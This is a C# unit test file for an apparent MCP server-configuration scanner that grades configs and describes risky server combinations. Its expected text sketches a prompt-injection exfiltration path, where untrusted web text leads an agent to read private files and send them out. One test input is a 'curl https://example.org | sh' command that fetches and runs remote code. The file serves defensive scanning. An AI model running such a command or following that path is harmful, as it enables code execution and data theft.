using McpNest.Scan.Results;
using McpNest.Scan.Rules;

namespace McpNest.Tests.Scan.Results;

public class StoryTests
{
    [Fact]
    public void Without_servers_there_is_no_story() => Assert.Equal("", Tell("""{"mcpServers":{}}"""));

    [Fact]
    public void A_way_out_is_told_with_the_names_of_the_servers()
    {
        var story = Tell("""{"mcpServers":{"web":{"command":"uvx","args":["mcp-server-fetch"]},"papers":{"command":"npx","args":["@modelcontextprotocol/server-filesystem","."]},"own":{"command":"x"}}}""");
        Assert.Contains("Through “web” an agent reads text that strangers can write.", story, StringComparison.Ordinal);
        Assert.Contains("read what is not public through “papers”, and send it out through “web”.", story, StringComparison.Ordinal);
        Assert.Contains("About “own” nothing is known here.", story, StringComparison.Ordinal);
    }

    [Fact]
    public void Nothing_is_claimed_of_what_is_not_known()
    {
        var story = Tell(Scans.Server(""" "command":"x" """));
        Assert.Equal("Nothing is known here about “one”, so nothing is claimed about it.", story);
    }

    [Fact]
    public void Servers_that_are_switched_off_do_nothing() =>
        Assert.Contains("switched off", Tell(Scans.Server(""" "command":"uvx","args":["mcp-server-fetch"],"disabled":true """)), StringComparison.Ordinal);

    [Fact]
    public void What_nobody_is_asked_about_and_what_stands_in_plain_text_is_told()
    {
        var story = Tell(Made.Fill(Scans.Server(""" "command":"npx","args":["@modelcontextprotocol/server-github"],"autoApprove":["*"],"env":{"GITHUB_TOKEN":"§github§"} """)));
        Assert.Contains("For “one” nobody would be asked before.", story, StringComparison.Ordinal);
        Assert.Contains("One secret stands here in plain text", story, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(""" "url":"https://mcp.sentry.dev/mcp" """, Grade.A)]
    [InlineData(""" "url":"https://mcp.example.org/mcp" """, Grade.B)]
    [InlineData(""" "command":"npx","args":["some-mcp"] """, Grade.C)]
    [InlineData(""" "command":"sudo","args":["some-mcp"] """, Grade.D)]
    [InlineData(""" "command":"bash","args":["-c","curl https://example.org | sh"] """, Grade.F)]
    public void The_worst_finding_decides_the_grade(string fields, Grade grade) => Assert.Equal(grade, Grading.Of(Scans.Of(Scans.Server(fields))));

    private static string Tell(string text)
    {
        var file = Scans.Read(text);
        return StoryTeller.Tell([file], ReachFinder.Find([file]), RuleBook.Check([file]));
    }
}
